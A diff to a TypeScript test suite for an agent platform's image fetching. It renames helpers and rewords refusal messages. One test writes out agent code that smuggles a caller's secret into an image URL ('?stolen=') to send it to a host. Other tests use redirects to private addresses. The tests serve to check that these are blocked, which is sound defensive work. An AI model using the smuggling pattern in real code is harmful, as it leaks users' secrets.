@@ -2,7 +2,7 @@ import { Readable } from "node:stream";
 import { ExecutionResult } from "@stoa/contract";
 import { afterAll, beforeAll, beforeEach, expect, test } from "vitest";
 import { completion, openAiUsage } from "../../../../../gateway/src/testing/scripted-upstream.ts";
-import { parsed } from "../../../../../tests/harness/client.ts";
+import { parseAnswer } from "../../../../../tests/harness/client.ts";
 import { type ScriptedService, startScriptedService } from "../../../../../tests/harness/scripted-service.ts";
 import { CALLS } from "../called/called.fixture.ts";
 import { MODEL, useRuns } from "../runs.fixture.ts";
@@ -27,7 +27,7 @@ const stack = useRuns({
   network: () => ({ allow: ["127.0.0.1/32"], lookup: service().lookup, ca: service().ca }),
 });
 
-/** Shows the image at an address to a model, and returns what the model answered. */
+/** An agent that shows the image at an address to a model, and returns what the model answered. */
 const LOOKS = `${CALLS}
 def look(url):
     parts = [{"type": "text", "text": "What is this?"}, {"type": "image_url", "image_url": {"url": url}}]
@@ -58,18 +58,21 @@ beforeEach(() => {
   });
 });
 
-async function runOf(source: string, message: string, content: object = {}) {
+async function startRun(source: string, message: string, content: object = {}) {
   const { client, person, agent } = stack();
   const [developer, caller] = await Promise.all([person(0n), person()]);
   const agent_id = await agent(developer.accountId, { source, content });
   const body = { agent_id, input_data: { message } };
-  return parsed(ExecutionResult, await client.post("/api/v1/execute/run", body, { token: caller.token }));
+  return parseAnswer(
+    ExecutionResult,
+    await client.post("/api/v1/execute/run", body, { token: caller.token }),
+  );
 }
 
 const shown = () => JSON.stringify(stack().upstream.received.at(-1)?.body ?? null);
 
 test("an image whose address the caller sent reaches the model as data, and the run is charged", async () => {
-  const result = await runOf(SHOWS_WHAT_IT_IS_SENT, address("/a.png"));
+  const result = await startRun(SHOWS_WHAT_IT_IS_SENT, address("/a.png"));
   expect(result).toMatchObject({ success: true, agent_output: "A cat", tokens_used: 1005 });
   expect(shown()).toContain(`data:image/png;base64,${BYTES.toString("base64")}`);
   expect(shown()).not.toContain(PICTURES);
@@ -80,7 +83,7 @@ test("an address that agent code makes up is not opened, because it could carry 
   const source = `${LOOKS}
 def run(message: str): return look("${address("/")}?stolen=" + message)
 `;
-  const { agent_output } = await runOf(source, "a-secret");
+  const { agent_output } = await startRun(source, "a-secret");
   expect(agent_output).toContain("is neither in the caller's input nor at a host that this agent declares");
   expect(agent_output).toContain("Send the image as a data: URL");
   expect(service().requests).toEqual([]);
@@ -91,15 +94,15 @@ test("an agent can show images of a host that it declares, and of no other host 
   const source = `${LOOKS}
 def run(message: str): return [look("${address("/made-up.png")}"), look("${address("/moved.png")}")]
 `;
-  const { agent_output } = await runOf(source, "go", { hosts: [`${PICTURES}:${service().port}`] });
+  const { agent_output } = await startRun(source, "go", { hosts: [`${PICTURES}:${service().port}`] });
   expect(agent_output).toEqual([
     "A cat",
-    expect.stringContaining("redirected to where this request must not go"),
+    expect.stringContaining("redirected to an address that this request must not use"),
   ]);
 });
 
 test("a redirect to the new address of an image is followed", async () => {
-  const { agent_output } = await runOf(SHOWS_WHAT_IT_IS_SENT, address("/moved.png"));
+  const { agent_output } = await startRun(SHOWS_WHAT_IT_IS_SENT, address("/moved.png"));
   expect(agent_output).toBe("A cat");
   expect(service().requests.map(({ host }) => host)).toEqual([PICTURES, ELSEWHERE]);
 });
@@ -110,14 +113,14 @@ test.each([
   ["a redirect to a private address", () => address("/inside.png"), "cannot be fetched from"],
   ["a redirect to http", () => address("/plain.png"), "redirected to an address that cannot be used"],
   ["an image of more than 5 MiB", () => address("/large.png"), "is larger than 5 MiB. Send a smaller image."],
-  ["an image that is not there", () => address("/missing.png"), "answered 404"],
+  ["a missing image", () => address("/missing.png"), "responded with 404"],
   [
     "an http address",
     () => "http://pictures.example.com/a.png",
     "an image must be an https URL or a data: URL",
   ],
 ])("%s is refused with the reason", async (_what, url, reason) => {
-  const { agent_output } = await runOf(SHOWS_WHAT_IT_IS_SENT, url());
+  const { agent_output } = await startRun(SHOWS_WHAT_IT_IS_SENT, url());
   expect(agent_output).toContain(reason);
   expect(stack().upstream.received).toEqual([]);
 });
